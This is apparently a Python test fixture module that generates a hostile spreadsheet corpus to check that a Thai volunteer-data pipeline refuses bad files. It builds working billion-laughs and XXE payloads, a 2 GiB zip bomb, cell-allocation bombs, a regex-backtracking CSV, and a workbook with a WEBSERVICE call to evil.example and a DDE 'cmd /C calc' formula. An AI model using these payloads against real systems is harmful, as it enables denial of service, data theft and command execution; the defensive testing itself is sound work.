"""Generators of the bad-input corpus: every hostile file is built here, at test time, never committed."""
from __future__ import annotations

import io
import os
import shutil
import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import openpyxl

from pipeline.core.schema import load_schema
from tests.builders import headers, set_mtime, write_ods, xlsx_book
from tests.sources.test_readers import biff8_workbook_stream, compound_file

# A marker that must never reach any output: it stands for a server file an XML entity tries to read.
SECRET_MARKER = "SECRET-4f1c9e-DO-NOT-LEAK"
VOLUNTEERS_SHEET = "อาสาสมัคร"


def volunteer(number: int, district: str = "เมืองแพร่", subdistrict: str = "ในเวียง") -> list:
    """One valid volunteer row; the phone 0870000NNN is unique per number."""
    return ["นาย", f"ทดสอบ{number}", "สกุลทดสอบ", f"0870000{number:03d}", "อสม.", "อบต.(moicovid)", subdistrict,
            district, "20/12/2564"]


def volunteer_rows(first: int, count: int, district: str = "เมืองแพร่", subdistrict: str = "ในเวียง") -> list[list]:
    """The header row and `count` valid volunteers numbered from `first`."""
    return [headers("volunteers"), *(volunteer(n, district, subdistrict) for n in range(first, first + count))]


def csv_bytes(rows: list[list], encoding: str = "utf-8") -> bytes:
    """Rows as CSV text in an encoding (no quoting needed for these rows)."""
    return ("\r\n".join(",".join("" if v is None else str(v) for v in row) for row in rows) + "\r\n").encode(encoding)


def xlsx_bytes(sheets: dict[str, list[list]]) -> bytes:
    """A workbook written by openpyxl, as bytes."""
    buffer = io.BytesIO()
    xlsx_book(sheets).save(buffer)
    return buffer.getvalue()


def text_xlsx_bytes(sheets: dict[str, list[list]]) -> bytes:
    """A workbook whose text cells are text even when they start with '=' (as Excel stores '=… typed after ')."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for row_number, row in enumerate(rows, start=1):
            for column_number, value in enumerate(row, start=1):
                cell = sheet.cell(row_number, column_number, value)
                if isinstance(value, str):
                    cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def formulas_and_links_xlsx(rows: list[list]) -> bytes:
    """A district workbook with live formulas (a web call, a DDE command) and an external hyperlink in it."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = VOLUNTEERS_SHEET
    for row in rows:
        sheet.append(row)
    sheet["J2"] = '=WEBSERVICE("https://evil.example/?"&D2)'
    sheet["K2"] = "=cmd|' /C calc'!A0"
    sheet["B3"].hyperlink = "https://evil.example/phish"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def rewrite_members(data: bytes, transforms: dict[str, Callable[[bytes], bytes]]) -> bytes:
    """A copy of a zip with some members passed through a transform."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as original, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as copy:
        for info in original.infolist():
            content = original.read(info.filename)
            copy.writestr(info.filename, transforms.get(info.filename, lambda b: b)(content))
    return target.getvalue()


# ---------------------------------------------------------------- damaged and disguised files

def truncated_xlsx() -> bytes:
    """A real workbook cut in half, as an interrupted copy leaves it."""
    data = xlsx_bytes({VOLUNTEERS_SHEET: volunteer_rows(1, 30)})
    return data[:len(data) // 2]


def bit_flipped_xlsx() -> bytes:
    """A real workbook with three bytes inverted inside the compressed sheet XML (CRC no longer matches)."""
    data = bytearray(xlsx_bytes({VOLUNTEERS_SHEET: volunteer_rows(1, 30)}))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    name_length = int.from_bytes(data[info.header_offset + 26:info.header_offset + 28], "little")
    extra_length = int.from_bytes(data[info.header_offset + 28:info.header_offset + 30], "little")
    start = info.header_offset + 30 + name_length + extra_length + info.compress_size // 3
    for position in range(start, start + 3):
        data[position] ^= 0xFF
    return bytes(data)


def html_page() -> bytes:
    """A web system's 'export to Excel': an HTML table saved with a spreadsheet name."""
    cells = "".join(f"<td>{header}</td>" for header in headers("volunteers"))
    return (f'<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta charset="utf-8"></head>'
            f"<body><table><tr>{cells}</tr></table></body></html>").encode("utf-8")


def encrypted_workbook() -> bytes:
    """What Excel writes for a password-protected workbook: an OLE2 container with EncryptionInfo."""
    return compound_file([("EncryptionInfo", b"\x04\x00\x04\x00" + b"\0" * 60),
                          ("EncryptedPackage", os.urandom(5000))])


# ---------------------------------------------------------------- XML attacks

def _with_doctype(xml: bytes, doctype: bytes, cell_text: bytes) -> bytes:
    """Sheet XML with a document type declaration and an inline-string cell using its entity."""
    head, _, body = xml.partition(b"?>")
    cell = b'<row r="40"><c r="A40" t="inlineStr"><is><t>' + cell_text + b"</t></is></c></row>"
    return head + b"?>" + doctype + body.replace(b"</sheetData>", cell + b"</sheetData>")


def _laughs_doctype(root: bytes) -> bytes:
    """The classic 'billion laughs' declarations: lol9 expands to 10**9 copies of 'lol'."""
    entities = [b'<!ENTITY lol0 "lol">'] + [
        b"<!ENTITY lol%d \"%s\">" % (level, b"&lol%d;" % (level - 1) * 10) for level in range(1, 10)]
    return b"<!DOCTYPE " + root + b" [" + b"".join(entities) + b"]>"


def billion_laughs_xlsx() -> bytes:
    """Nested entities that expand a few hundred bytes into gigabytes, in the sheet and shared strings."""
    data = xlsx_bytes({VOLUNTEERS_SHEET: volunteer_rows(1, 2)})
    laugh = lambda xml: _with_doctype(xml, _laughs_doctype(b"worksheet"), b"&lol9;")  # noqa: E731
    shared = lambda xml: xml.replace(b"?>", b"?>" + _laughs_doctype(b"sst"), 1).replace(b"<t>", b"<t>&lol9;", 1)  # noqa: E731
    return rewrite_members(data, {"xl/worksheets/sheet1.xml": laugh, "xl/sharedStrings.xml": shared})


def external_entity_xlsx(secret_path: Path) -> bytes:
    """An external entity naming a local file: parsing it would copy the file's content into a cell."""
    data = xlsx_bytes({VOLUNTEERS_SHEET: volunteer_rows(1, 2)})
    url = secret_path.resolve().as_uri().encode()
    doctype = b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "' + url + b'">]>'
    return rewrite_members(data, {"xl/worksheets/sheet1.xml": lambda xml: _with_doctype(xml, doctype, b"&xxe;")})


# ---------------------------------------------------------------- size attacks

def _gf2_times(matrix: list[int], vector: int) -> int:
    total, index = 0, 0
    while vector:
        if vector & 1:
            total ^= matrix[index]
        vector, index = vector >> 1, index + 1
    return total


def crc32_combine(first: int, second: int, second_length: int) -> int:
    """CRC-32 of A+B from the CRCs of A and B (zlib's crc32_combine, which Python does not expose)."""
    odd = [0xEDB88320] + [1 << bit for bit in range(31)]   # one zero bit
    even = [_gf2_times(odd, odd[bit]) for bit in range(32)]  # two zero bits
    odd = [_gf2_times(even, even[bit]) for bit in range(32)]  # four zero bits
    while second_length:
        even = [_gf2_times(odd, odd[bit]) for bit in range(32)]
        if second_length & 1:
            first = _gf2_times(even, first)
        second_length >>= 1
        if not second_length:
            break
        odd = [_gf2_times(even, even[bit]) for bit in range(32)]
        if second_length & 1:
            first = _gf2_times(odd, first)
        second_length >>= 1
    return first ^ second


def repeated_crc32(block: bytes, repeats: int) -> int:
    """CRC-32 of `block` repeated, by doubling (milliseconds instead of reading gigabytes)."""
    result, length = 0, 0
    piece, piece_length = zlib.crc32(block), len(block)
    while repeats:
        if repeats & 1:
            result, length = crc32_combine(result, piece, piece_length), length + piece_length
        piece, piece_length = crc32_combine(piece, piece, piece_length), piece_length * 2
        repeats >>= 1
    return result


def _repeated_deflate(block: bytes, repeats: int) -> tuple[bytes, int]:
    """Raw deflate of `block` repeated, built from one compressed copy (no gigabytes in memory), and its CRC."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)  # byte-aligned, history reset
    return piece * repeats + compressor.flush(zlib.Z_FINISH), repeated_crc32(block, repeats)


def zip_bomb_xlsx(gigabytes: int = 2) -> bytes:
    """A genuine xlsx-shaped zip (~2 MB) whose sheet XML inflates to `gigabytes` GiB, sizes and CRC all true."""
    small = xlsx_bytes({VOLUNTEERS_SHEET: volunteer_rows(1, 1)})
    block = b"<c/>" * 262_144  # 1 MiB of sheet XML that deflates about 1000:1
    stream, checksum = _repeated_deflate(block, gigabytes * 1024)
    size = len(block) * gigabytes * 1024
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(small)) as original, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED,
                                                                       allowZip64=True) as copy:
        for info in original.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                copy.writestr(info.filename, original.read(info.filename))
    return _append_raw_member(target.getvalue(), "xl/worksheets/sheet1.xml", stream, checksum, size)


def _append_raw_member(archive: bytes, name: str, stream: bytes, checksum: int, size: int) -> bytes:
    """Add an already-deflated member (sizes in a zip64 extra field) to a zip, rewriting its central directory."""
    end = archive.rindex(b"PK\x05\x06")
    entries, = struct.unpack("<H", archive[end + 10:end + 12])
    directory_size, directory_offset = struct.unpack("<II", archive[end + 12:end + 20])
    directory = archive[directory_offset:directory_offset + directory_size]
    encoded, sizes = name.encode(), struct.pack("<HHQQ", 1, 16, size, len(stream))   # zip64: true sizes
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 45, 0, 8, 0, 0x21, checksum, 0xFFFFFFFF, 0xFFFFFFFF,
                        len(encoded), len(sizes)) + encoded + sizes
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45, 0, 8, 0, 0x21, checksum, 0xFFFFFFFF, 0xFFFFFFFF,
                          len(encoded), len(sizes), 0, 0, 0, 0, directory_offset) + encoded + sizes
    body = archive[:directory_offset] + local + stream
    directory += central
    return body + directory + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, entries + 1, entries + 1, len(directory),
                                          len(body), 0)


def far_cell_xlsx() -> bytes:
    """A ~5 KB workbook with cells at A1 and XFD1048576: calamine would try to allocate ~549 GB."""
    book = openpyxl.Workbook()
    book.active.title = VOLUNTEERS_SHEET
    book.active["A1"] = headers("volunteers")[0]
    book.active["XFD1048576"] = "x"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def far_cell_without_references_xlsx() -> bytes:
    """Cells without r= attributes escape every cheap pre-check: only the child process contains the abort."""
    row = b'<row r="1048576">' + b"<c><v>1</v></c>" * 16384 + b"</row>"
    data = xlsx_bytes({VOLUNTEERS_SHEET: [["x"]]})
    return rewrite_members(data, {"xl/worksheets/sheet1.xml": lambda xml: xml.replace(b"</sheetData>",
                                                                                       row + b"</sheetData>")})


def repeated_cells_ods() -> bytes:
    """A 2 KB OpenDocument sheet whose repeat attributes ask for 1,048,000 rows of 16,000 cells."""
    bomb = (b'<table:table-row table:number-rows-repeated="1048000"><table:table-cell '
            b'table:number-columns-repeated="16000" office:value-type="string"><text:p>x</text:p></table:table-cell>'
            b"</table:table-row>")
    return rewrite_members(ods_bytes(volunteer_rows(1, 1)), {"content.xml": lambda xml: xml.replace(
        b"</table:table>", bomb + b"</table:table>", 1)})


def sniffer_trap_csv() -> bytes:
    """64 KB of text on which csv.Sniffer's quote regex backtracks quadratically (minutes of CPU)."""
    return (",'a" * 21_000).encode("ascii")


# ---------------------------------------------------------------- the corpus

@dataclass(frozen=True)
class Unreadable:
    """A file that must be refused with one file-level problem whose Thai message names the cause."""

    file_name: str
    content: Callable[[Path], bytes]      # given the test's scratch folder
    problem: str                          # readers' problem code
    thai: str                             # words the Thai message must contain


UNREADABLE = [
    Unreadable("ตัดครึ่ง.xlsx", lambda _: truncated_xlsx(), "corrupt", "ไฟล์เสียหรือไม่สมบูรณ์"),
    Unreadable("บิตเพี้ยน.xlsx", lambda _: bit_flipped_xlsx(), "corrupt", "ไฟล์เสียหรือไม่สมบูรณ์"),
    Unreadable("ว่าง.xlsx", lambda _: b"", "empty_file", "ไฟล์ว่างเปล่า"),
    Unreadable("เว็บ.xlsx", lambda _: html_page(), "html_not_excel", "หน้าเว็บ"),
    Unreadable("เว็บ.xls", lambda _: html_page(), "html_not_excel", "หน้าเว็บ"),
    Unreadable("รหัสผ่าน.xlsx", lambda _: encrypted_workbook(), "encrypted", "รหัสผ่าน"),
    Unreadable("billion-laughs.xlsx", lambda _: billion_laughs_xlsx(), "corrupt", "ไฟล์เสียหรือไม่สมบูรณ์"),
    Unreadable("external-entity.xlsx", lambda scratch: external_entity_xlsx(scratch / "secret.txt"), "corrupt",
               "ไฟล์เสียหรือไม่สมบูรณ์"),
    Unreadable("zip-bomb.xlsx", lambda _: zip_bomb_xlsx(), "zip_bomb", "ขยายแล้วมีขนาดใหญ่เกินกำหนด"),
    Unreadable("XFD1048576.xlsx", lambda _: far_cell_xlsx(), "too_many_cells", "จำนวนเซลล์มากผิดปกติ"),
    Unreadable("repeated.ods", lambda _: repeated_cells_ods(), "too_many_cells", "จำนวนเซลล์มากผิดปกติ"),
    Unreadable("no-references.xlsx", lambda _: far_cell_without_references_xlsx(), "parser_crashed",
               "โปรแกรมอ่านไฟล์หยุดทำงาน"),
    Unreadable("empty.csv", lambda _: b"", "empty_file", "ไฟล์ว่างเปล่า"),
    Unreadable("blank-lines.csv", lambda _: b",,,\r\n\r\n,,\r\n", "empty_file", "ไฟล์ว่างเปล่า"),
]


# Readable but awkward files. Volunteer numbers (phones 0870000NNN) never overlap between cases.
WANG_CHIN, NONG_MUANG_KHAI = "5407 วังชิ้น", "หนองม่วงไข่\u200b"   # the second folder carries a zero-width space
NON_UTF8_NAME = os.fsdecode("รายงานวินโดวส์".encode("cp874") + b".csv")  # a Thai Windows zip extracted on Linux


def wang_chin(first: int, count: int) -> list[list]:
    """Volunteers of วังชิ้น (5407), header first."""
    return volunteer_rows(first, count, "วังชิ้น", "สรอย")


def nong_muang_khai(first: int, count: int) -> list[list]:
    """Volunteers of หนองม่วงไข่ (5408), header first."""
    return volunteer_rows(first, count, "หนองม่วงไข่", "น้ำรัด")


def truncated_csv() -> bytes:
    """Three volunteers, the copy cut in the middle of the third row (inside a Thai character)."""
    data = csv_bytes(wang_chin(130, 3))
    return data[:data.rindex("สกุลทดสอบ".encode()) + 4]


def control_character_csv() -> bytes:
    """Control characters inside names and a bad phone that is echoed back in the issues workbook."""
    rows = wang_chin(140, 3)
    rows[1][1] = "สม\x01ชาย\x07"
    rows[2][5] = "อบต.\x1b[31m(moicovid)\x0b"
    rows[3][3] = "08\x02123\x1f"
    return csv_bytes(rows)


def long_folder() -> str:
    """Nested folders of 249-byte Thai names (ext4 allows 255 bytes per name, 4096 per path)."""
    return "/".join(["ก" * 83] * 4)


@dataclass(frozen=True)
class Readable:
    """A file the pipeline must read, with the row accounting and file-level problem it must produce."""

    path: str                 # relative to the inbox
    content: Callable[[], bytes]
    accepted: int
    rejected: int = 0
    duplicates: int = 0
    file_problem: str | None = None   # the issue code of its one file-level problem
    thai: str = ""                    # words that message must contain
    district: str = "5407"            # where its accepted rows count


READABLE = [
    Readable(f"{WANG_CHIN}/csv-renamed.xlsx", lambda: csv_bytes(wang_chin(100, 2)), 2,
             file_problem="file_type_mismatch", thai="CSV"),
    Readable(f"{WANG_CHIN}/csv-renamed.xls", lambda: csv_bytes(wang_chin(102, 2)), 2,
             file_problem="file_type_mismatch", thai="CSV"),
    Readable(f"{WANG_CHIN}/เก่า.xls", lambda: xls_workbook_of(wang_chin(110, 2)), 2),
    Readable(f"{WANG_CHIN}/odf.ods", lambda: ods_bytes(wang_chin(112, 2)), 2),
    Readable(f"{WANG_CHIN}/utf16.csv", lambda: csv_bytes(wang_chin(120, 2), "utf-16"), 2),
    Readable(f"{WANG_CHIN}/copy-cut.csv", truncated_csv, 2, rejected=1),
    Readable(f"{WANG_CHIN}/header-only.csv", lambda: csv_bytes(wang_chin(0, 0)), 0),
    Readable(f"{WANG_CHIN}/control.csv", control_character_csv, 2, rejected=1),
    Readable(f"{WANG_CHIN}/สูตร.xlsx", lambda: formulas_of(wang_chin(150, 2)), 0, rejected=2,
             file_problem="file_warning", thai="สูตรที่ยังไม่ได้คำนวณ"),
    Readable(f"{WANG_CHIN}/\u202eรายงาน.csv", lambda: csv_bytes(wang_chin(160, 2)), 2),
    Readable(f"{WANG_CHIN}/ราย\u200bงาน.csv", lambda: csv_bytes(wang_chin(162, 2)), 2),
    Readable(f"{WANG_CHIN}/caf\u00e9.csv", lambda: csv_bytes(wang_chin(170, 2)), 2),           # NFC
    Readable(f"{WANG_CHIN}/cafe\u0301.csv", lambda: csv_bytes(wang_chin(172, 2)), 2),          # its NFD twin
    Readable(f"{WANG_CHIN}/{long_folder()}/{'ข' * 80}.csv", lambda: csv_bytes(wang_chin(180, 2)), 2),
    Readable(f"{WANG_CHIN}/{NON_UTF8_NAME}", lambda: csv_bytes(wang_chin(190, 2)), 2),
    Readable(f"{WANG_CHIN}/ของอำเภอสอง.csv", lambda: csv_bytes(volunteer_rows(200, 2, "สอง", "บ้านหนุน")), 2,
             district="5406"),
    Readable(f"{NONG_MUANG_KHAI}/a-ต้นฉบับ.csv", lambda: csv_bytes(nong_muang_khai(210, 3)), 3, district="5408"),
    Readable(f"{NONG_MUANG_KHAI}/b-สำเนา.csv", lambda: csv_bytes(nong_muang_khai(210, 3)), 0, duplicates=3,
             district="5408"),
]


def xls_workbook_of(rows: list[list]) -> bytes:
    """A BIFF8 .xls holding these rows on the volunteers sheet."""
    cells = [(row_index, column, value) for row_index, row in enumerate(rows) for column, value in enumerate(row)]
    return compound_file([("Workbook", biff8_workbook_stream(VOLUNTEERS_SHEET, cells))])


def ods_bytes(rows: list[list]) -> bytes:
    """An OpenDocument spreadsheet holding these rows on the volunteers sheet."""
    import tempfile
    with tempfile.TemporaryDirectory() as folder:
        path = write_ods(Path(folder) / "x.ods", {VOLUNTEERS_SHEET: rows})
        return path.read_bytes()


def formulas_of(rows: list[list]) -> bytes:
    """The rows with their name and phone cells turned into formulas never calculated."""
    rows = [list(row) for row in rows]
    for row in rows[1:]:
        row[1], row[3] = f'="{row[1]}"', f'="{row[3]}"'
    return xlsx_bytes({VOLUNTEERS_SHEET: rows})


def write_bytes(path: Path, content: bytes, moment=None) -> Path:
    """Write a file (making its folders) and set its submission time."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    if moment is not None:
        set_mtime(path, moment)
    return path


# ---------------------------------------------------------------- running the real pipeline on a corpus

def quiet(_message: str) -> None:
    """A progress callback that prints nothing."""


def copy_run(source: Path, target: Path) -> tuple[Path, Path]:
    """A copy of an inbox and its outputs (store included): the next run reads only the files added."""
    shutil.copytree(source / "inbox", target / "inbox")
    shutil.copytree(source / "out", target / "out")
    return target / "inbox", target / "out"


def issue_rows(week_dir: Path) -> list[dict]:
    """The issues table as the province reads it: one dict per row, keyed by field, found by its Thai headers."""
    labels = load_schema().wording["labels"]
    fields = {labels["district"]: "district", labels["file"]: "file", labels["sheet"]: "sheet",
              labels["row"]: "row", labels["column"]: "column_letter", "หัวคอลัมน์": "column",
              labels["value"]: "value", labels["severity"]: "severity", labels["code"]: "code",
              labels["message"]: "message"}
    book = openpyxl.load_workbook(week_dir / f"issues_{week_dir.name}.xlsx", read_only=True)
    try:
        sheet = book[labels["issues_sheet"]]
        rows = list(sheet.iter_rows(values_only=True))
    finally:
        book.close()
    top = next(index for index, row in enumerate(rows) if labels["code"] in row and labels["message"] in row)
    names = [fields.get(header) for header in rows[top]]
    return [{name: value for name, value in zip(names, row) if name} for row in rows[top + 1:]]


def file_level(rows: list[dict], source_file: str) -> list[dict]:
    """The problems of one file that concern the whole file (no sheet row)."""
    return [row for row in rows if row["file"] == source_file and row["row"] in (None, "")]


def accounting_of(result, source_file: str) -> dict:
    """Summed row accounting of one file in a run's result."""
    table = result.result.accounting
    mine = table[table["source_file"] == source_file]
    return {key: int(mine[key].sum()) for key in ("rows_read", "accepted", "rejected", "duplicates", "skipped")} \
        | {"sheets": len(mine)}
